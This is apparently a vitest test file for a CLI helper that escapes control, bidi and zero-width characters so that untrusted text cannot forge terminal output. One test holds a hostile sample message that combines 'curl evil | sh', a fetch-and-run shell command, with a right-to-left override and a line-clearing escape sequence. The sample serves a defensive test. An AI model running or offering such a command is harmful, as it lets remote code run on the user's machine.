// escapeForTerminal: text from outside the CLI (a server's message, a pasted address, a file name, the key)
// must not be able to move the cursor, start a new line or reorder what the terminal shows.
import { describe, expect, test } from "vitest";
import { escapeForTerminal } from "../../src/node/terminal-text.js";

describe("escapeForTerminal", () => {
  test("leaves ordinary text alone, non-ASCII letters, emoji and backslashes included", () => {
    const text = "Invalid code or code_verifier: café, 東京, 🙂, C:\\Users\\me\\key";
    expect(escapeForTerminal(text)).toBe(text);
  });

  test("newline, carriage return and tab become \\n, \\r, \\t", () => {
    expect(escapeForTerminal("a\nb\rc\td")).toBe("a\\nb\\rc\\td");
  });

  const unsafe = [
    ...Array.from({ length: 0x20 }, (_, i) => i).filter((i) => ![0x09, 0x0a, 0x0d].includes(i)),
    0x7f, // DEL
    ...Array.from({ length: 0x20 }, (_, i) => 0x80 + i), // C1, CSI (U+009B) among them
    0x061c, // Arabic letter mark
    0x200b,
    0x200c,
    0x200d,
    0x200e,
    0x200f, // zero-width, LRM, RLM
    0x2028,
    0x2029, // line and paragraph separators
    0x202a,
    0x202b,
    0x202c,
    0x202d,
    0x202e, // bidi embeddings and overrides
    0x2066,
    0x2067,
    0x2068,
    0x2069, // bidi isolates
    0xfeff, // zero-width no-break space (BOM)
  ];
  test.each(unsafe.map((code) => [code.toString(16).padStart(4, "0"), code] as const))(
    "U+%s is shown as a \\u escape",
    (hex, code) => {
      expect(escapeForTerminal(`<${String.fromCharCode(code)}>`)).toBe(`<\\u${hex}>`);
    },
  );

  test("code points beyond U+FFFF (tag characters) use \\u{…}; a lone surrogate is shown too", () => {
    expect(escapeForTerminal("a\u{e0041}b")).toBe("a\\u{e0041}b");
    expect(escapeForTerminal("a\ud800b")).toBe("a\\ud800b");
  });

  test("a forged line stays on the line it came in", () => {
    const hostile = "Invalid code\nNow run: curl evil | sh \u202eafed\u001b[2K\r";
    const shown = escapeForTerminal(hostile);
    expect(shown.split("\n")).toHaveLength(1);
    expect(shown).toBe("Invalid code\\nNow run: curl evil | sh \\u202eafed\\u001b[2K\\r");
  });
});
